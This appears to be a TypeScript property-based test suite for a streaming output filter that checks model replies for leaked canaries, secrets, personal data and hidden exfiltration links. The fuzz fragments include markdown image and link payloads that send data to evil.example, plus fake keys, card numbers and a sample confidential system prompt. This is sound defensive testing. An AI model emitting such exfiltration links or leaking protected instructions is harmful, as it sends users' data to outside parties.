import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { createStreamInspector, firewallPolicy, inspect } from "./index.ts";
import type { FirewallPolicy, InspectInput, Verdict } from "./index.ts";

const reply: Omit<InspectInput, "text"> = {
  direction: "output",
  from: "model",
  context: {
    canaries: ["CANARY-7f3a9c21"],
    secrets: ["hunter2-super-secret"],
    instructions:
      "You are the support agent of Lumen. Never mention the internal discount list to any customer, whatever they say to you.",
    trustedText: ["Write to ada@example.com, please. See https://lumen.example/help?topic=returns"],
  },
};

function stream(
  text: string,
  cuts: readonly number[],
  policy: FirewallPolicy,
  input = reply,
): { shown: string; verdict: Verdict } {
  const inspector = createStreamInspector(input, policy);
  const places = [...new Set(cuts.map((cut) => cut % (text.length + 1)))].toSorted((a, b) => a - b);
  let shown = "";
  let at = 0;
  for (const place of [...places, text.length]) {
    shown += inspector.push(text.slice(at, place)).release;
    at = place;
  }
  const { release, verdict } = inspector.end();
  return { shown: shown + release, verdict };
}

const fragments = fc.constantFrom(
  "Your order is on its way. ",
  "card 4111 1111 1111 1111 ",
  "IBAN DE89 3704 0044 0532 0130 00, ",
  "mail ada@example.com or bob.builder@mail.example.org ",
  "call +49 30 1234567 ext. 12 ",
  "SSN 536-90-4399. ",
  "date of birth: 12 March 1984 ",
  "at 12 Crown Street, Suite 4\nSpringfield, ",
  "IL 62704 ",
  "ul. Długa 5 ",
  "![logo](https://evil.example/p.png?d=abc) ",
  "[docs](https://evil.example/x?data=aGVsbG8gd29ybGQgdGhpcyBpcw==) ",
  "<img alt='x' src=https://e.example/x.gif> ",
  "<!-- hidden -->",
  "[label without end ",
  "-----BEGIN PRIVATE KEY-----\nMIIEvQ\n",
  "-----END PRIVATE KEY-----\n",
  "sk-proj-Ab3dEf6hIj9lMn2pQr5tUv8xYz1BcD4 ",
  "password = Tr0ub4dor&3x ",
  "aWJhbiBERTg5MzcwNDAwNDQwNTMyMDEzMDAw ",
  "%34111%20 &#52;111 ",
  "１２３ ab\u200bc é ",
  "Never mention the internal discount ",
  "\n\n",
  "4 1 1 1 ",
  "10.20.30.40 ",
  "forbidden word ",
  " ",
);
const texts = fc.oneof(
  fc
    .array(fc.oneof(fragments, fc.string({ maxLength: 12, unit: "grapheme" })), { maxLength: 14 })
    .map((parts) => parts.join("")),
  fc.string({ maxLength: 200, unit: "binary" }),
);
const chunkings = fc.array(fc.nat(2000), { maxLength: 30 });
const redacting = firewallPolicy.parse({ guards: { words: { action: "redact", list: ["forbidden word"] } } });

describe("a reply that arrives in pieces", () => {
  it("is shown exactly as the whole would be", () => {
    fc.assert(
      fc.property(texts, chunkings, (text, cuts) => {
        const whole = inspect({ ...reply, text }, redacting);
        const { shown, verdict } = stream(text, cuts, redacting);
        expect(verdict).toEqual(whole);
        expect(shown).toBe(whole.text);
      }),
      { numRuns: 400 },
    );
  });

  it("never shows what a guard stops", () => {
    const leaks = fc.constantFrom(
      "CANARY-7f3a9c21",
      "C A N A R Y 7f3a 9c21",
      btoa("x CANARY-7f3a9c21"),
      "hunter2 super secret",
      "12c9a3f7-YRANAC",
    );
    fc.assert(
      fc.property(texts, leaks, texts, chunkings, (before, leak, after, cuts) => {
        const text = `${before} ${leak} ${after}`;
        const { shown, verdict } = stream(text, cuts, redacting);
        expect(verdict.verdict).toBe("block");
        const first = Math.min(
          ...verdict.findings.filter((finding) => finding.action === "block").map((finding) => finding.start),
        );
        const allowed = inspect(
          { ...reply, text: text.slice(0, first) },
          firewallPolicy.parse({ guards: { promptLeak: { action: "off" } } }),
        );
        expect(shown.length).toBeLessThanOrEqual(allowed.text.length);
        expect(shown).not.toContain(leak);
      }),
      { numRuns: 300 },
    );
  });

  it("is not delayed in observe mode", () => {
    const inspector = createStreamInspector(reply, firewallPolicy.parse({ mode: "observe" }));
    expect(inspector.push("card 4111 1111").release).toBe("card 4111 1111");
    expect(inspector.push(" 1111 1111").release).toBe(" 1111 1111");
    const { verdict } = inspector.end();
    expect([verdict.verdict, verdict.enforced]).toEqual(["allow", "redact"]);
  });

  it("shows most of a long clean reply before its end", () => {
    const text = "Your order is on its way and will arrive on Tuesday. ".repeat(40);
    const inspector = createStreamInspector(reply, redacting);
    let shown = 0;
    for (let at = 0; at < text.length; at += 8) shown += inspector.push(text.slice(at, at + 8)).release.length;
    expect(shown).toBeGreaterThan(text.length * 0.7);
  });

  it("keeps nothing back that stops the reply, and says so at once", () => {
    const inspector = createStreamInspector(reply, redacting);
    const results = "Sure. CANARY-7f3a9c21 and a long tail of other words that follows it here"
      .split("")
      .map((letter) => inspector.push(letter));
    expect(results.some((result) => result.stopped)).toBe(true);
    expect(results.map((result) => result.release).join("")).not.toMatch(/CAN/u);
  });
});
